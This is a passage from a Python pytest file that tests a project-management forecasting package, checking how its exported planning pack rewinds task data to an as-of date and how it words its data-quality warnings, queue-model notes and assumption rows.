        S.TASK_ID: [f"NEW-{i}" for i in range(4)], S.PROJECT_ID: "PRJ-09",
        S.STARTED: [as_of + pd.Timedelta(days=d) for d in (10, 20, 30)] + [pd.NaT]})
    tasks = pd.concat([tasks, new], ignore_index=True).drop(columns=S.CREATED)
    left = set(tasks[S.TASK_ID]) - set(tasks_as_of(tasks.assign(**{S.CREATED: pd.NaT}), as_of)[S.TASK_ID])
    assert {f"NEW-{i}" for i in range(4)} <= left
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, people=people, as_of=as_of, n_trials=200,
                               random_state=0, progress=False, rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE, (  # created dates dropped
        SmallSampleWarning, "no completed project to learn scope growth from (5 completed projects have no created "
        "dates, so the scope added after their start cannot be told): no growth added (pass scope_growth=<rate> to "
        "set one)")]
    rewound_row = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (f"{len(left):,} of {len(tasks):,} tasks created later left out (4 of them open tasks with no created "
            f"date, their project's first date (a planned start included) after {as_of:%Y-%m-%d}: when they were "
            "added is not known), ") in rewound_row


def test_a_rewound_pack_counts_the_done_tasks_it_leaves_out_for_want_of_a_finish_date(tmp_path):
    # a done task without a finish date, last dated (created, started) before the cut, is left out of the table
    # rewound to it (tasks_as_of: whether it was done by then is not known); the rewound row counted it among the
    # tasks "created later". Known answer: three done tasks, started and finished 30+ days before the cut, their
    # finish dates blanked
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of

    tasks, _, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    early = tasks[S.STATUS].eq(S.DONE) & (tasks[S.FINISHED] < as_of - pd.Timedelta(days=30))
    blank = tasks.index[early][:3]
    tasks.loc[blank, S.FINISHED] = pd.NaT
    later = len(tasks) - len(tasks_as_of(tasks, as_of)) - 3
    assert later == int((tasks[S.CREATED] >= as_of + pd.Timedelta(days=1)).sum())
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, people=people, as_of=as_of, n_trials=200,
                               random_state=0, progress=False, rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE]  # as they stood on as_of
    rewound_row = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (f"{later:,} of {len(tasks):,} tasks created later left out, ") in rewound_row
    assert (", 3 done tasks have no finish date and are left out after their last date (created or started): when "
            "they finished is not known") in rewound_row


def test_a_rewound_pack_reads_far_dates_as_blank_before_it_rewinds(tmp_path):
    # the pack rewound its table before reading far dates as blank: PRJ-01-73, done 2024-01-30, its finish typed
    # 2204, was finished "after" the cut and reopened, open work of the long-completed PRJ-01 in the rewound pack.
    # Read as blank first, it is a done task without a finish date, left out after its last date
    # (rewind.finish_unknown), as the same table with the finish blank is rewound. A start typed 1900-01-01 is
    # before the cut: the Data quality sheet still lists it, as written
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    typo = (tasks[S.TASK_ID] == "PRJ-01-73").to_numpy()
    zero = tasks.index[tasks[S.STATUS].eq(S.DONE) & tasks[S.STARTED].notna() & ~typo][0]
    tasks.loc[zero, S.STARTED] = pd.Timestamp("1900-01-01")
    blank = tasks.assign(**{S.FINISHED: tasks[S.FINISHED].mask(typo), S.STARTED: tasks[S.STARTED].mask(
        tasks.index == zero)})
    tasks.loc[typo, S.FINISHED] = pd.Timestamp("2204-01-30 14:22")
    want = tasks_as_of(blank, as_of)
    assert "PRJ-01-73" in set(tasks_as_of(tasks, as_of)[S.TASK_ID]) - set(want[S.TASK_ID])  # reopened as written
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      as_of=as_of, n_trials=200, random_state=0, progress=False, rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE]  # as they stood on as_of
    inputs = pd.read_csv(tmp_path / "pack-inputs.csv").set_index("input")
    assert inputs.loc["tasks", "rows"] == len(want)
    assert "PRJ-01" not in set(pack.tables["projects"][S.PROJECT_ID])  # no open work: completed
    rewound_row = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (", 1 done task has no finish date (1 read as blank: a date far beyond or before the rest of the data) "
            "and is left out after its last date (created or started): when it finished is not known") in rewound_row
    quality = pack.tables["data-quality-tasks"]
    assert quality.loc[quality["check"].str.startswith("far_"), ["id", "value", "check"]].values.tolist() == [
        [tasks.loc[zero, S.TASK_ID], "1900-01-01", "far_past_started"]]


def test_a_rewound_packs_inputs_sheet_counts_the_rewound_tables(tmp_path):
    # the Inputs sheet counted the file's rows (1,867 tasks) while every other sheet, Data quality's "checks run"
    # included, counted the rewound table's: the rewound counts, the rows read said beside them
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of
    from pmo_forecast.pool.queueing import requests_as_of

    tasks, projects, people, requests = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    n_tasks, n_requests = len(tasks_as_of(tasks, as_of)), len(requests_as_of(requests, as_of))
    assert n_tasks < len(tasks) and n_requests < len(requests)
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, as_of=as_of, n_trials=200, random_state=0, progress=False,
                                      rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE]  # as they stood on as_of
    inputs = pd.read_csv(tmp_path / "pack-inputs.csv").set_index("input")
    assert inputs["rows"].to_dict() == {"tasks": n_tasks, "projects": len(projects), "people": len(people),
                                        "requests": n_requests}
    for name, n, read, then in (("tasks", n_tasks, len(tasks), "the rows read (rows left out"),
                                 ("requests", n_requests, len(requests), "requests started by the log's end")):
        assert inputs.loc[name, "filters"].startswith(f"rewound to the end of {as_of:%Y-%m-%d}: {n:,} of the "
                                                      f"{read:,} rows read; {then}")
    assert inputs.loc["projects", "filters"].startswith("budget_hours and due")  # as given: not rewound
    checks = openpyxl.load_workbook(pack.path)["Data quality"]
    titles = [c.value for row in checks.iter_rows(max_col=1) for c in row if isinstance(c.value, str)]
    assert f"tasks: checks run ({n_tasks:,} rows)" in titles


def test_an_earlier_as_of_tells_the_effort_forecast_which_projects_have_not_started(tmp_path):
    # the effort forecast took the data's own date: a project starting between the pack's as-of and the data's
    # last date, with no task, was warned as "active project(s) have no task" while Data quality (and the finish
    # forecast) said it had not started
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.inputs.validation import not_started_note

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=20)
    extra = projects.tail(1).assign(**{S.PROJECT_ID: "PRJ-09", S.STATUS: S.ACTIVE,
                                       S.START: as_of + pd.Timedelta(days=10)})
    projects = pd.concat([projects, extra], ignore_index=True)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      as_of=as_of, n_trials=200, random_state=0, progress=False)
    assert not [w for w in caught if "no task in the task table" in str(w.message)]
    assert pack.forecasts["overrun"].notes == [f"PRJ-09: {not_started_note(as_of + pd.Timedelta(days=10), as_of)}"]


# --- validate_inputs ---------------------------------------------------------------------------------
DATELESS = "task_id,project_id,estimate_hours,actual_hours,status\nT1,P,4,5,done\nT2,P,3,,open\n"
NO_DATES_SAID = ("the task table has no created, started or finished date: checked as loaded, with no as-of date "
                 "and no people inferred; the planning pack needs one (as_of, on the command line --as-of "
                 "YYYY-MM-DD)")


def test_the_no_dates_refusal_is_its_own_error_and_still_a_value_error(tmp_path):
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.core.exceptions import NoDatesError
    from pmo_forecast.inputs.io import load_tasks

    (tmp_path / "tasks.csv").write_text(DATELESS)
    tasks = load_tasks(tmp_path / "tasks.csv", require_estimate=False)
    with pytest.raises(NoDatesError) as e:
        infer_as_of(tasks)
    assert isinstance(e.value, ValueError)  # callers catching ValueError still do
    assert str(e.value) == ("as_of is needed: the task table has no created/started/finished dates to infer it "
                            "from; pass as_of= (on the command line: --as-of YYYY-MM-DD)")
    assert X.validate_inputs(tmp_path / "tasks.csv").said[X.NO_DATES] == NO_DATES_SAID


@pytest.mark.parametrize("as_of", [None, "2026-03-31"])
def test_validate_inputs_takes_only_the_no_dates_refusal_for_no_dates(tmp_path, monkeypatch, as_of):
    # a ValueError of another kind while loading a dateless table was taken for "no dates" (validate_inputs
    # re-checked the dates after catching any ValueError; the load, given as_of, caught any ValueError too)
    # the as-of date is read by infer_as_of, or quiet_as_of given a date: both through as_of's one reading of it
    from pmo_forecast.core import as_of as as_of_module

    def broken(tasks):
        raise ValueError("a bug, not the dates")

    (tmp_path / "tasks.csv").write_text(DATELESS)
    monkeypatch.setattr(as_of_module, "_inferred", broken)
    with pytest.raises(ValueError) as e:
        X.validate_inputs(tmp_path / "tasks.csv", as_of=as_of)
    assert str(e.value) == "a bug, not the dates"


def test_a_pool_counted_from_the_handlers_is_said_once_in_the_assumptions(tmp_path, sample):
    # with nobody in role 'pm' the pool is the request log's handlers: the Assumptions sheet said it four times
    # in three wordings (the PM-pool check, the scenarios' note for the baseline and the demand scenario, again
    # for the hire, and the KPI trends' note on past quarters); the results used alone still say it themselves
    from pmo_forecast.reporting.trends import kpi_trends
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = sample
    no_pm = people.assign(**{S.ROLE: people[S.ROLE].replace({S.PM_ROLE: "lead"})})
    hire = Scenario.from_dict({"name": "hire", "hires": [{"person": "New PM", "role": "pm", "start": "2026-07-01"}]})
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        with pytest.warns(DataQualityWarning, match="^" + re.escape(
                "on 151 working days of the plan (from 2026-06-30) no PM in the people table serves the PM pool "
                "(none employed at availability above 0 and hours a week above 0): the pool is the request log's 8 "
                "handlers (the fit counts them), so its request handling is 449 h on nobody's row (no PM "
                "employed)") + "$"):
            pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=no_pm,
                                          requests=requests,
                                          scenarios=[hire, Scenario(name="more work", demand_growth=1.1)],
                                          n_trials=200, random_state=0, progress=False)
    book = openpyxl.load_workbook(pack.path)
    rows = [(r[0].value, r[1].value) for r in book["Assumptions"].iter_rows() if isinstance(r[1].value, str)]
    fallback = ("nobody in the people table has role 'pm' (employed at the log's end): the pool is the log's 8 "
                "distinct handlers")
    assert [(k, v) for k, v in rows if re.search(r"(has|with) role '?pm'?", v)] == [("check: PM-pool request log",
                                                                                    fallback)]
    assert pack.forecasts["queue"].handlers_note == fallback
    # the hire's note keeps what the fallback means for it, and refers to the row that says it
    assert [v for k, v in rows if k == "scenarios: note" and "handlers" in v] == [
        "hire: the PM pool is the request log's handlers (as 'check: PM-pool request log' says): only the people "
        "given role 'pm' by this scenario change it; its other leavers, moves and hires leave the approval waits as "
        "they are"]
    # alone, each result still says it: the comparison's notes, the scenario's actions, the trends' warnings
    said = "the PM pool is the request log's 8 handlers (nobody in the people table has role 'pm')"
    comparison = pack.forecasts["comparison"]
    assert comparison.notes().set_index("note").loc[said, "scenarios"] == "baseline, more work"
    assert all(any(a.startswith(said) for a in r.actions()) for r in comparison.results)
    assert [r.pool_source for r in comparison.results] == ["handlers"] * 3
    quarters = "PM-pool utilisation (observed) 2023Q3 to 2026Q2: no person with role pm employed in the people table; the pool is "
    assert quarters + "the 8 handlers in the request log" in pack.forecasts["trends"].warnings_
    alone = kpi_trends(tasks, projects, requests, people=no_pm)
    assert alone.handlers_note_ == quarters + "the 8 handlers in the request log" and alone.handlers_note_ in alone.warnings_


def test_the_few_trials_note_says_one_trial_in_the_singular():
    # 12 trials leave one beyond the P90: it said "rests on the 1 trials beyond it"
    from pmo_forecast.reporting.export import few_trials_note

    assert few_trials_note(12) == (
        "12 Monte Carlo trials: a probability such as P(late) is uncertain by up to 14.4 percentage points (one "
        "standard error at 50%) and a P90 rests on the 1 trial beyond it; use at least 1,000 (10,000, the default, "
        "for the meeting)")
    assert few_trials_note(1).startswith("1 Monte Carlo trial: ") and "rests on the 0 trials beyond it" in \
        few_trials_note(1)


def test_a_pool_served_again_after_a_gap_has_a_bounded_headline_wait_on_the_scenarios_sheet(tmp_path):
    # every PM on leave for two weeks, then back: the headline approval waits were the mean of the weekly
    # steady-state waits, inf in the weeks without a server, so the Scenarios sheet read "unbounded (queue grows)"
    # and explained it as "more approval work than hours" for a pool at 35% once back. The weeks without a PM are
    # left out of the mean and said under the table; unbounded only for a gap that reaches the horizon's end
    from pmo_forecast.core.labels import UNBOUNDED_WAIT
    from pmo_forecast.scenarios.spec import AvailabilityChange, Scenario

    tasks, projects, people, requests = small_org()

    def away(name, *dates):  # every PM at 0% from the first date, back at 90% from the second
        return Scenario(name=name, availability=[AvailabilityChange(0.0 if k % 2 == 0 else 0.9, role=S.PM_ROLE,
                                                                    date=pd.Timestamp(d))
                                                 for k, d in enumerate(dates)])

    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, n_trials=200, random_state=0, progress=False, history=False,
                                  scenarios=[away("two weeks", "2026-08-03", "2026-08-17"),
                                             away("for good", "2026-08-03")])
    ws = openpyxl.load_workbook(pack.path)["Scenarios"]
    table = _block(ws, "Each scenario, then its change against the baseline").set_index("measure")
    runs = {r.scenario.name: r for r in pack.forecasts["comparison"].results}
    served = runs["two weeks"].waits_over_time.query("servers > 0")
    for q, wait in (("p50", "approval wait P50 (working days, queue model)"),
                    ("p90", "approval wait P90 (working days, queue model)")):
        assert table.at[wait, "two weeks"] == pytest.approx(served[f"wait_{q}_days"].mean(), abs=0.05)
        assert np.isfinite(runs["two weeks"].approval_wait[q])
        assert table.at[wait, "for good"] == UNBOUNDED_WAIT
    assert runs["two weeks"].unserved_weeks == 2 and len(served) == 24
    note = next(c.value for r in ws.iter_rows() for c in r if isinstance(c.value, str)
                and c.value.startswith("Changes: waits in working days"))
    assert ("two weeks: No PM serves the PM pool in 2 weeks of the horizon (the weeks from 2026-08-03 until "
            "2026-08-17): a request arriving then waits until a PM is back and then behind the approvals that piled "
            "up meanwhile, a wait of the gap that the headline approval waits leave out (they and the PM-pool "
            "utilisation are the means over the 24 weeks a PM serves).") in note
    util = table.at["PM-pool utilisation (queue model)", "two weeks"]
    assert util == pytest.approx(served["utilisation"].mean(), abs=0.01), util  # not 'no capacity' for two weeks away
    assert note.endswith("for good: No PM serves the PM pool from the week of 2026-08-03 to the horizon's end: a "
                         "request arriving then waits past the horizon, so the headline approval waits are "
                         "unbounded."), note
    assert "more approval work than hours" not in note  # neither pool is over capacity in a week a PM serves it


def test_projects_are_listed_in_the_order_people_read_their_ids(tmp_path):
    # PC10 came before PC2 (ids sorted as text) on the Projects sheet, its CSV and summary.html: SiP's projects
    # read PC1, PC10, PC11, ..., PC2, PC20, PC3
    import html
    import re

    tasks, projects, people, requests = small_org()
    ids = {p: f"P{i + 4}" for i, p in enumerate(sorted(projects[S.PROJECT_ID]))}  # the open ones: P9, P10, P11
    tasks[S.PROJECT_ID] = tasks[S.PROJECT_ID].map(ids)
    projects = projects.assign(**{S.PROJECT_ID: projects[S.PROJECT_ID].map(ids), S.BUDGET: np.nan, S.DUE: pd.NaT})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  n_trials=200, random_state=0, progress=False)
    shown = pack.tables["projects"][S.PROJECT_ID].tolist()
    assert len(shown) >= 3 and shown == sorted(shown, key=lambda p: int(p[1:]))
    assert shown != sorted(shown)  # as text they would read otherwise
    text = html.unescape(re.sub(r"<[^>]+>", " ", (tmp_path / "summary.html").read_text(encoding="utf-8")))
    listed = re.findall(r"\bP(\d+)\b", text[text.index("Open projects, by project ID (none assessed)"):])
    assert [f"P{n}" for n in listed[:len(shown)]] == shown


def test_accuracy_by_project_lists_the_projects_in_the_order_people_read_their_ids(tmp_path):
    # the Accuracy sheet's "By project" read P10, P11, ..., P4, P5 (ids sorted as text) while the Projects sheet
    # beside it read P4, P5, ..., P10: SiP's PC10 to PC19 came before PC2
    tasks, projects, people, _ = small_org()
    ids = {p: f"P{i + 4}" for i, p in enumerate(sorted(projects[S.PROJECT_ID]))}
    tasks[S.PROJECT_ID] = tasks[S.PROJECT_ID].map(ids)
    projects = projects.assign(**{S.PROJECT_ID: projects[S.PROJECT_ID].map(ids)})
    X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                           n_trials=200, random_state=0, progress=False)
    rows = list(openpyxl.load_workbook(tmp_path / "pack.xlsx")["Accuracy"].iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == "By project") + 2
    shown = [r[0] for r in rows[start:next(i for i in range(start, len(rows)) if all(v is None for v in rows[i]))]]
    assert len(shown) >= 6 and shown == sorted(shown, key=lambda p: int(p[1:])) and shown != sorted(shown)
    assert pd.read_csv(tmp_path / "pack-accuracy-project-id.csv", encoding="utf-8-sig")[S.PROJECT_ID].tolist() == shown


def test_the_milestone_trend_has_a_blank_column_for_a_project_its_note_says_is_beyond_the_horizon(tmp_path):
    # the note read "Now beyond the horizon, so blank in the last row: P (after ...)" but the table had no column
    # for P at all (never a date to pivot): SiP's first pack showed PC1 alone and named 17 projects it did not show
    pack, pid = _pack_with_a_project_beyond_the_horizon(tmp_path)
    after = pack.tables["projects"].set_index("project_id").at[pid, "finish_p80_after"]
    rows = list(openpyxl.load_workbook(tmp_path / "pack.xlsx")["What changed"].iter_rows(values_only=True))
    note = next(i for i, r in enumerate(rows) if r[0] == "Milestone trend: finish date 80% sure as forecast at each pack")
    assert f"blank in the last row: {pid} (after {after:%Y-%m-%d})." in rows[note + 1][0]
    head, last = rows[note + 2], rows[note + 3]
    assert list(head[1:1 + len(pack.tables["projects"])]) == pack.tables["projects"]["project_id"].tolist()
    assert last[head.index(pid)] is None


def test_a_pack_with_no_project_assessed_says_so_not_zero_red(tmp_path):
    # SiP's Summary and summary.html read "Status: red when ...; 0 red." with all 18 projects grey (no due date
    # and no budget): a committee reads that as all clear
    tasks, projects, people, _ = small_org()
    projects = projects.assign(**{S.BUDGET: np.nan, S.DUE: pd.NaT})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  n_trials=200, random_state=0, progress=False)
    n = len(pack.tables["projects"])
    assert n >= 3 and set(pack.tables["projects"]["rag"]) == {"grey"}
    said = (f"Status: red when the chance of being late or over budget is 50% or more, amber from 20%; all {n} open "
            "projects grey: not assessed (the Projects sheet says why).")
    assert openpyxl.load_workbook(tmp_path / "pack.xlsx")["Summary"]["A2"].value.endswith(said)
    assert said in (tmp_path / "summary.html").read_text(encoding="utf-8")


def test_the_assumptions_say_cost_per_hour_in_words_and_name_the_input_column(tmp_path):
    # the rows said "the booker's cost_per_hour" and "Bo Wu: no cost_per_hour, 95.00 used" (a code name), where
    # the Scenarios sheet's cost notes say cost per hour and point at the people table's cost_per_hour column
    tasks, projects, people, requests = small_org()
    people = people.assign(cost_per_hour=people["cost_per_hour"].mask(people["person"] == "Bo Wu"))
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False)
    rows = [(r[0], r[1]) for r in openpyxl.load_workbook(pack.path)["Assumptions"].iter_rows(values_only=True)
            if r[0] and str(r[0]).startswith("cost")]
    assert rows[:2] == [
        ("cost: hours spent at the cost per hour of whoever booked them, hours to come at the open work's "
         "estimate-weighted rate", "the people table's cost_per_hour column"),
        ("cost fallback", "Bo Wu: no cost per hour (blank in the people table's cost_per_hour column), 95.00 used "
                          "(role or organisation median)")]


def test_the_few_trials_note_rounds_its_uncertainty_at_a_half_as_the_cells_round():
    # 64 trials: 50 / 8 = 6.25 points, which read "6.2" (an f-string rounds the half to even); the pack's figures
    # in words round halves away from zero, as its cells do
    from pmo_forecast.reporting.export import few_trials_note

    assert few_trials_note(64).startswith(
        "64 Monte Carlo trials: a probability such as P(late) is uncertain by up to 6.3 percentage points (one ")


def test_a_rewound_pack_names_five_projects_not_started_and_counts_the_rest():
    # seven projects starting after the as-of date were named "PRJ-1, ..., PRJ-5, ...", not saying how many more
    from helpers import make_tasks, pack_context

    from pmo_forecast.reporting.pack_inputs import _rewind_not_started

    projects = pd.DataFrame({S.PROJECT_ID: [f"PRJ-{i}" for i in range(8)], S.STATUS: "active",
                             S.START: pd.to_datetime(["2026-06-01"] + ["2026-08-01"] * 7)})
    # PRJ-0 under way with a task by then; PRJ-1 to PRJ-7 starting after it, with none
    tasks = make_tasks([("T1", "PRJ-0", "ann", 8.0, np.nan, S.OPEN)]).assign(**{S.CREATED: pd.Timestamp("2026-06-29")})
    ctx = pack_context(tasks, projects=projects, as_of="2026-06-30")
    assert _rewind_not_started(ctx, pd.DataFrame({S.PROJECT_ID: ["PRJ-0"]})) == [
        "7 projects starting after 2026-06-30, with no task by then, counted as not started yet (status proposed: "
        "no forecast, and no data problem) (PRJ-1, PRJ-2, PRJ-3, PRJ-4, PRJ-5 and 2 more)"]


def test_settings_left_at_none_are_said_in_words(tmp_path):
    # a seed not given and a half-life of None read "None" in the Assumptions sheet, as Python writes them
    from pmo_forecast import EstimationAccuracyModel

    tasks, projects, people, _ = small_org()
    model = EstimationAccuracyModel(half_life_days=None).fit(tasks)
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people, model=model,
                                  n_trials=100, random_state=None, progress=False)
    ws = openpyxl.load_workbook(pack.path)["Assumptions"]
    run = _block(ws, "Run").set_index("setting")["value"]
    settings = _block(ws, "Model settings").set_index("setting")["value"]
    assert run["random seed"] == settings["accuracy model: random seed"] == "none (other random numbers each run)"
    assert settings["accuracy model: recency half-life asked for (days; auto: chosen on the recent history)"] == (
        "none (all history alike)")


def test_an_assignee_spelt_otherwise_is_the_person_in_every_forecast_of_the_pack_and_said(tmp_path):
    # the task table's 'ann lee' for the people table's 'Ann Lee' was the person in Data coverage and in
    # validation's words, but its open work went to the project's pool in the plan and the capacity view
    tasks, projects, people, requests = small_org()
    open_ = tasks[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)]
    who = open_[S.ASSIGNEE].value_counts().index[0]
    low = who.lower() if who.lower() != who else who.upper()
    tasks[S.ASSIGNEE] = tasks[S.ASSIGNEE].replace({who: low})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, n_trials=100, random_state=0, progress=False)
    assert low not in set(pack.forecasts["finish"].reassigned.get(S.ASSIGNEE, pd.Series(dtype=object)))
    assert pack.forecasts["finish"].by_person().loc[who, "open_estimate_hours"] >= open_.loc[
        open_[S.ASSIGNEE] == who, S.ESTIMATE].sum() - 1e-6  # her own work, and any pool share
    settings = pack_settings(pack)
    assert settings["tasks: assignee spellings"] == (
        f"assignees spelt otherwise than the people table, read as the person it names: '{low}' as '{who}'")
    assert settings.astype(str).str.contains("read as the person it names").sum() == 1  # said once
    quality = pd.read_csv(next(f for f in pack.files if f.name == "pack-data-quality-tasks.csv"))
    spelt = quality[quality["check"] == "assignee_spelt_differently"]
    assert len(spelt) == (open_[S.ASSIGNEE] == who).sum() and set(spelt["value"]) == {low}


def test_a_manager_spelt_otherwise_is_the_person_in_the_pm_load_of_the_pack_and_said(tmp_path):
    # the projects table's 'ann costa' for the people table's 'Ann Costa' was a second manager on the Capacity
    # sheet's projects per manager (validation warned "their PM load is shown apart")
    tasks, projects, people, requests = small_org()
    busiest = tasks[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)].groupby(S.PROJECT_ID)[S.ESTIMATE].sum().idxmax()
    who = projects.set_index(S.PROJECT_ID).loc[busiest, S.MANAGER]
    low = who.lower() if who.lower() != who else who.upper()
    spelt = projects.assign(**{S.MANAGER: projects[S.MANAGER].replace({who: low})})
    files = {}
    for name, table in (("same", projects), ("spelt", spelt)):
        pack = X.export_planning_pack(tmp_path / name / "pack.xlsx", tasks=tasks, projects=table, people=people,
                                      requests=requests, n_trials=100, random_state=0, progress=False)
        files[name] = {f.name: f for f in pack.files}
    load = pd.read_csv(files["spelt"]["pack-pm-load.csv"])
    pd.testing.assert_frame_equal(load, pd.read_csv(files["same"]["pack-pm-load.csv"]))
    settings = pack_settings(pack)  # the spelt pack, the loop's last
    assert settings["projects: manager spellings"] == (
        f"managers spelt otherwise than the people table, read as the person it names: '{low}' as '{who}'")
    quality = pd.read_csv(files["spelt"]["pack-data-quality-projects.csv"])
    spelt_rows = quality[quality["check"] == "manager_spelt_differently"]
    assert len(spelt_rows) == (projects[S.MANAGER] == who).sum() and set(spelt_rows["value"]) == {low}


def test_a_value_over_the_limit_is_a_warning_and_an_unusable_row_an_error_on_the_data_quality_sheet(tmp_path):
    # an actual of 5,000 h was counted an error ("tasks: 2 errors on 2 rows", "ERRORS" in the key message) while its
    # reason said "if real, the forecasts read it as written": a value kept and used is a warning; the error is the
    # value the models do not read as written (a start on a zero date). A task finished before it started is kept
    # and counts as finished on that date: a warning too (it had been an error, said "used as given")
    from helpers import few_trials

    tasks, projects, people, _ = small_org()
    done = tasks.index[tasks[S.STATUS].eq(S.DONE) & tasks[S.STARTED].notna()]
    tasks.loc[done[0], S.ACTUAL] = 5_000.0
    tasks.loc[done[1], S.STARTED] = tasks.loc[done[1], S.FINISHED] + pd.Timedelta(days=3)
    tasks.loc[done[2], S.STARTED] = pd.Timestamp("1900-01-01")
    over, backwards, zero = tasks.loc[done[:3], S.TASK_ID]
    with few_trials():  # a history large enough to learn from: nothing said but the few trials
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      n_trials=50, random_state=0, progress=False)
    sheet = openpyxl.load_workbook(pack.path)["Data quality"]
    found = _block(sheet, "tasks: every finding (row = line in the source file, header = line 1)")
    rows = found.loc[found["id"].isin([over, backwards, zero]), ["severity", "check_words", "id", "value", "check"]]
    assert rows.values.tolist() == [
        ["error", "Started date far before the rest of the data", zero, "1900-01-01", "far_past_started"],
        ["warning", "Task with actual hours too large to be real", over, "5000", "absurd_actual"],
        ["warning", "Task finished before it started", backwards,
         f"{tasks.loc[done[1], S.FINISHED]:%Y-%m-%d %H:%M:%S}", "finish_before_start"],
        ["warning", "Task started before it was created", zero, "1900-01-01", "started_before_created"],
        ["warning", "Done task with actual hours far from its estimate", over, "5000", "ratio_outlier"]]
    checks = _block(sheet, "tasks: checks run (1,867 rows)").set_index("check")
    assert checks.loc["absurd_actual", ["severity", "count"]].tolist() == ["warning", 1]
    assert checks.loc["finish_before_start", ["severity", "count"]].tolist() == ["warning", 1]
    assert checks.loc["far_past_started", ["severity", "count"]].tolist() == ["error", 1]
    assert (found["severity"] == "error").sum() == 1
    note = next(r[0] for r in sheet.iter_rows(values_only=True) if str(r[0]).startswith("tasks: "))
    assert note.startswith("tasks: 1 error on 1 row, ")
    message = pack.tables["key-messages"]["message"].iat[0]
    assert message.startswith("The input data has 1 error on 1 row, which the numbers below leave out or read as "
                              "blank (tasks: 1 started date far before the rest of the data), and ")
    warned = message.split("used as written but worth a look", 1)[1]
    assert "1 task with actual hours too large to be real" in warned and "1 task finished before it started" in warned


def test_the_pack_prepares_today_s_open_work_once_for_the_effort_and_the_finish_dates(tmp_path, monkeypatch):
    # the effort and the finish-date forecast plan the same tables on the same date and calendar: the finish dates
    # prepared the open work again (its quantile tables, stale work and queue order, 0.4 s on the sample)
    from pmo_forecast.forecasting import overrun

    prepared, prepare = [], overrun.prepare_open_work
    monkeypatch.setattr(overrun, "prepare_open_work", lambda *a, **k: prepared.append(len(a[1])) or prepare(*a, **k))
    org = small_org()
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=org.tasks, projects=org.projects, people=org.people,
                                  n_trials=100, progress=False, history=False, pace=1.0)
    assert prepared == [len(org.tasks)]
    assert pack.forecasts["finish"].stale is pack.forecasts["overrun"].stale  # the one preparation's


def test_a_finish_in_a_typo_year_is_read_as_blank_by_every_number_of_the_pack(tmp_path):
    # PRJ-01's last done task finished 2024-01-30, typed 2204: validation lists it (far_future_finished, an error: a
    # value not used as written), yet the KPI trends read it as written: PRJ-01 never closed, its quarter delivered
    # nothing. Read as blank, it is a done task without a finish: PRJ-01 completed on its last known date, on time
    from pmo_forecast.reporting.trends import kpi_trends

    tasks, projects, people, requests = small_org()
